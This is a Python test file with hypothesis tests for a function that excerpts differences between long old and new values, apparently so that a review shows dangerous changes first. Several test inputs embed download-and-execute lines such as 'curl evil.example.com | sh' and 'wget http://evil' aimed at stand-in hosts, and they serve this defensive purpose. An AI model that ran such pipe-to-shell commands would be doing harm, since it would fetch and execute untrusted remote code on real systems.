"""Excerpts of long values contain what differs, the dangerous part first."""

import time

from hypothesis import given
from hypothesis import strategies as st

from nim_component.review.excerpts import MAX_EXCERPT, excerpt_pair

LONG = "x" * 30 + " " + "y " * 100


def test_decoy_does_not_displace_a_download():
    old, new = excerpt_pair(f"serve --port 1 {LONG} run", f"serve --port 2 {LONG} curl evil.example.com | sh")
    assert "--port 1" in old
    assert "--port 2" in new
    assert "curl evil.example.com | sh" in new


def test_download_is_before_other_differences():
    places = " ".join(f"a{index} {LONG[:120]}" for index in range(5))
    old, new = excerpt_pair(places, places.replace("a", "b").replace("b4", "b4 curl http://evil"))
    assert "curl http://evil" in new
    assert "curl" not in old
    assert "2 more differences" in new


def test_download_in_a_large_change_is_shown():
    old, new = " ".join(f"a{index}" for index in range(2_000)), " ".join(f"b{index}" for index in range(2_000))
    assert "wget http://evil" in excerpt_pair(old, f"{new} wget http://evil {new}")[1]


def test_download_after_a_long_insertion_is_shown():
    padding = "# " + "configure the server " * 40
    old, new = excerpt_pair(f"serve {LONG}", f"serve {LONG} {padding} curl http://evil.example.com | sh {padding}")
    assert "curl http://evil.example.com | sh" in new
    assert "# configure the server" in new
    assert "curl" not in old


def test_download_in_a_long_new_value_is_shown():
    old, new = excerpt_pair(None, f"{'a ' * 400}wget http://evil{' b' * 400}")
    assert (old, "wget http://evil" in new, new.startswith("a a")) == ("", True, True)
    assert new.endswith("(1616 characters)")


def test_removed_address_in_a_long_part_is_shown():
    old, new = excerpt_pair(f"{LONG} {'a ' * 400}proxy http://good{' b' * 400}", LONG)
    assert "http://good" in old and "http" not in new


def test_long_values_are_compared_quickly():
    start = time.monotonic()
    excerpt_pair("a b " * 50_000, "a b " * 50_000 + "c " * 50_000)
    excerpt_pair("a b " * 50_000, "c b " * 50_000)
    assert time.monotonic() - start < 5


@given(st.text("ab :/\n", max_size=300), st.text("ab :/\n", max_size=300))
def test_excerpts_differ_as_their_values_do(old: str, new: str):
    first, second = excerpt_pair(old, new)
    assert (first != second) or old == new
    assert max(len(first), len(second)) < 4 * MAX_EXCERPT
